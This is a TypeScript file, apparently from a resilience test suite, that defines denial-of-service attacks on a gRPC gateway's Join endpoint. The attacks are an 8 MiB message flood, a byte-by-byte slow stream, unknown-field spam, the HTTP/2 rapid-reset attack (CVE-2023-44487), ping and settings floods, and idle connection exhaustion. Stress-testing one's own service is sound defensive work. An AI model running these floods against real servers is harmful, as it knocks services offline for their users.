import { type ClientHttp2Session, type ClientHttp2Stream, connect as connectHttp2 } from 'node:http2';
import { connect } from 'node:net';
import type { Attack } from './flood-options.ts';

const join = {
  ':method': 'POST',
  ':path': '/gatewarden.gateway.v1.GatewayService/Join',
  'content-type': 'application/grpc',
  te: 'trailers',
};

/** A gRPC frame that announces a message of that many bytes (gRPC over HTTP/2, Length-Prefixed-Message). */
function frame(length: number, message = Buffer.alloc(0)): Buffer {
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(length, 1);
  return Buffer.concat([prefix, message]);
}

/** Field 1000, which no message has, repeated. */
const unknownFields = Buffer.alloc(16_380, Buffer.from([0xc0, 0x3e, 0x01]));

function overHttp2(act: (session: ClientHttp2Session) => NodeJS.Timeout | undefined): Attack {
  return ({ host, port, localAddress }) => {
    // the attacker does not verify the certificate
    const options = { rejectUnauthorized: false, localAddress };
    const session = connectHttp2(`https://${host}:${port}`, options);
    let acting: NodeJS.Timeout | undefined;
    session.on('error', () => undefined);
    session.once('connect', () => {
      acting = act(session);
    });
    const closed = new Promise((resolve) => session.once('close', resolve)).finally(() => clearInterval(acting));
    return { closed, [Symbol.dispose]: () => void session.destroy() };
  };
}

function callJoin(session: ClientHttp2Session): ClientHttp2Stream {
  return session
    .request(join)
    .on('error', () => undefined)
    .resume();
}

const repeat = (milliseconds: number, action: () => void) => setInterval(action, milliseconds);

export const gatewayAttacks: readonly Attack[] = [
  // a message of 8 MiB, as fast as possible
  overHttp2((session) => {
    const call = callJoin(session);
    call.write(frame(8 * 1024 * 1024));
    return repeat(20, () => call.writable && !call.writableNeedDrain && call.write(Buffer.alloc(256 * 1024)));
  }),
  // a message sent byte by byte
  overHttp2((session) => {
    const call = callJoin(session);
    call.write(frame(16_000));
    return repeat(2_000, () => call.writable && call.write(Buffer.from([0])));
  }),
  // messages of unknown fields
  overHttp2((session) =>
    repeat(200, () => void (session.destroyed || callJoin(session).end(frame(unknownFields.length, unknownFields)))),
  ),
  // calls that are reset immediately (CVE-2023-44487)
  overHttp2((session) =>
    repeat(20, () => {
      for (let count = 0; count < 20 && !session.destroyed; count += 1) callJoin(session).close(8);
    }),
  ),
  // pings and settings
  overHttp2((session) =>
    repeat(20, () => {
      for (let count = 0; count < 50 && !session.destroyed; count += 1) session.ping(() => undefined);
      if (!session.destroyed) session.settings({ initialWindowSize: 65_535 });
    }),
  ),
  // idle connections, with TLS and without
  overHttp2(() => undefined),
  (target) => {
    const socket = connect(target).on('error', () => undefined);
    return {
      closed: new Promise((resolve) => socket.once('close', resolve)),
      [Symbol.dispose]: () => void socket.destroy(),
    };
  },
];
